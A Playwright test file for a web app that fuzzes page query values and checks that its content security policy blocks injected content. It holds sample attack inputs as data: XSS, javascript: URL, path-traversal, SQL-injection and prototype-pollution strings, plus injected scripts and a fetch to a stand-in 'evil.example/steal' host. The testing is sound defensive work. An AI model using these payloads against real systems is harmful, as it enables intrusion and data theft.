import type { Page } from '@playwright/test'
import { type Screen, screens } from './screens.ts'
import { expect, test } from './test.ts'

/** Values that people, links and attackers put into an address. Already encoded. */
const values = {
  'an empty value': '',
  'a repeated field': 'a&$=b',
  'a very long value': 'a'.repeat(6000),
  'a truncated encoding': '%E0%A4%A',
  'a stray percent sign': '100%',
  'invalid UTF-8 and a NUL': '%ED%A0%80%00%F0%9F',
  'an HTML injection': encodeURIComponent('"><img src=x onerror=alert(1)>'),
  'a javascript: URL': 'javascript:alert(1)//',
  'a protocol-relative URL': '//evil.example/',
  'a path traversal': '..%2F..%2F..%2Fetc%2Fpasswd',
  'prototype property names': '__proto__&constructor=$&toString=1',
  'truncated JSON': encodeURIComponent('{"a":[1,'),
  'an SQL injection': encodeURIComponent("1' or '1'='1"),
  'a number that overflows': '-1e999',
  'an invalid date': '2026-02-30T99:99:99Z',
}

/** Visits per start of the app, which costs as much as ten visits. */
const visitsPerStart = 150

/** All screens by access, in batches of one app start each. A sign-in page redirects signed-in members. */
const batches: { isPublic: boolean; list: [string, Screen][]; visits: number }[] = []
for (const isPublic of [false, true])
  for (const entry of Object.entries(screens)) {
    if ((entry[1].access === 'public') !== isPublic) continue
    const last = batches.at(-1)
    const batch =
      last?.isPublic === isPublic && last.visits < visitsPerStart
        ? last
        : { isPublic, list: [], visits: 0 }
    if (batch !== last) batches.push(batch)
    batch.list.push(entry)
    batch.visits += queriesFor(entry[1]).length
  }

for (const [at, { isPublic, list }] of batches.entries())
  test.describe(`screens ${at + 1} of ${batches.length}, ${isPublic ? 'public' : 'members only'}`, () => {
    test.use({ as: isPublic ? undefined : 'student' })
    test.setTimeout(180_000)
    test('show a page for any query values', async ({ page }) => {
      const issues = watch(page)
      await start(page)
      for (const [address, screen] of list)
        for (const [at, [name, query]] of queriesFor(screen).entries()) {
          const text = await visit(page, address + query, at === 0)
          expect.soft(text, `${address} with ${name}`).toMatch(/\S/)
          expect.soft(issues.splice(0), `${address} with ${name}`).toEqual([])
        }
      // Wait for what the last visit was still doing.
      await visit(page, '/pages/tab/my/my')
      expect.soft(issues).toEqual([])
    })
  })

test('unknown addresses show the not-found page', async ({ page }) => {
  const issues = watch(page)
  await start(page)
  for (const address of [
    '/nothing',
    '/pages',
    '/constructor',
    '/__proto__',
    '/%E0%A4%A',
    '/pages/tab/index/none',
  ])
    expect(await visit(page, address), address).toContain('没有这个页面')
  expect(issues).toEqual([])
  await page.getByRole('button', { name: '返回首页' }).filter({ hasText: '返回首页' }).click()
  await expect(page).toHaveURL(/\/pages\/tab\/index\/index$/)
})

test('the server answers malformed addresses with an HTML page on its own host', async ({
  page,
  request,
  baseURL,
}) => {
  for (const address of [
    '/%',
    '/pages/%E0%A4%A',
    '/pages/%00',
    `/${'a'.repeat(4000)}`,
    '//evil.example/',
  ])
    expect(
      (await request.get(baseURL + address, { headers: { accept: 'text/html' } })).headers()[
        'content-type'
      ],
      address,
    ).toMatch(/^text\/html/)
  await page.goto('/pages/%E0%A4%A?url=%')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(new URL(page.url()).hostname).toBe('localhost')
})

test('the content security policy blocks injected content', async ({ page, baseURL }) => {
  const requested: string[] = []
  page.on('requestfinished', (request) => {
    const { origin } = new URL(request.url())
    if (origin !== baseURL && origin !== 'null') requested.push(request.url())
  })
  await page.goto('/pages/tab/index/index')
  const stopped = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    )
    const put = <K extends keyof HTMLElementTagNameMap>(
      tag: K,
      fields: Partial<HTMLElementTagNameMap[K]>,
    ) => document.body.append(Object.assign(document.createElement(tag), fields))
    put('script', { textContent: 'window.smuggled = 1' })
    put('script', { src: 'https://evil.example/x.js' })
    put('img', { src: 'https://evil.example/pixel.png' })
    put('object', { data: 'https://evil.example/x.swf' })
    put('style', { textContent: 'body { display: none }' })
    const holder = document.createElement('div')
    holder.innerHTML =
      '<img src="data:," onerror="window.smuggled = 2"><base href="https://evil.example/">'
    document.body.append(holder)
    // In a timeout: code evaluated by the test itself bypasses the policy.
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: it must not work
        globalThis.eval('window.smuggled = 3')
      } catch {
        violations.push('eval')
      }
    })
    await fetch('https://evil.example/steal').catch(() => {})
    await new Promise((resolve) => setTimeout(resolve, 500))
    return { violations, smuggled: (window as { smuggled?: number }).smuggled }
  })
  expect(stopped.smuggled).toBeUndefined()
  expect([...new Set(stopped.violations)].sort()).toEqual(
    [
      'base-uri',
      'connect-src',
      'eval',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ].sort(),
  )
  expect(requested).toEqual([])
})

async function start(page: Page) {
  await page.goto('/pages/tab/my/my')
  await page.waitForLoadState('networkidle')
}

/**
 * Navigates within the app, like a link, and returns the page's text once it has settled.
 * @param first its code may still be loading
 */
async function visit(page: Page, href: string, first = true) {
  await page.evaluate(
    async ([to, first]) => {
      history.pushState(null, '', to)
      dispatchEvent(new PopStateEvent('popstate'))
      // A page shows its loading state after 200 ms while its code loads; one with loaded code is drawn in two frames.
      await new Promise((resolve) => setTimeout(resolve, first ? 250 : 40))
    },
    [href, first] as const,
  )
  const settled = await page
    .waitForFunction(
      () => {
        if (location.pathname.startsWith('/cas/')) return document.body.textContent
        const mains = [...document.querySelectorAll('main')]
        const shown = mains.find((main) => main.offsetParent !== null)
        return shown?.querySelector('.skeleton') ? '' : shown?.textContent
      },
      undefined,
      { timeout: 8000 },
    )
    .then((handle) => handle.jsonValue())
    .catch(() => '')
  // The central login is a page of the server: start the app again.
  if (new URL(page.url()).pathname.startsWith('/cas/')) await start(page)
  return settled
}

/** Exceptions and broken pages. The browser also logs refusals by the server, which are expected. */
function watch(page: Page) {
  const issues: string[] = []
  page.on('pageerror', (error) => issues.push(error.message))
  page.on('dialog', (dialog) => {
    issues.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    const text = message.text()
    if (message.type() === 'error' && !text.startsWith('Failed to load resource')) issues.push(text)
  })
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && new URL(frame.url()).hostname !== 'localhost')
      issues.push(`left for ${frame.url()}`)
  })
  return issues
}

/** A screen that reads nothing from its address is visited once with all values, others once per value. */
function queriesFor({ search = {} }: Screen): [string, string][] {
  const fields = Object.keys(search)
  const ask = (names: string[], value: string) =>
    `?${names.map((name) => `${name}=${value.replaceAll('$', name)}`).join('&')}`
  const all = Object.values(values).map((value, at) => ask([`field${at}`, 'isHideTabbar'], value))
  if (fields.length === 0) return [['all values', all.join('&').replaceAll('&?', '&')]]
  return [
    ['no query', ''],
    ...Object.entries(values).map(([name, value]): [string, string] => [name, ask(fields, value)]),
  ]
}
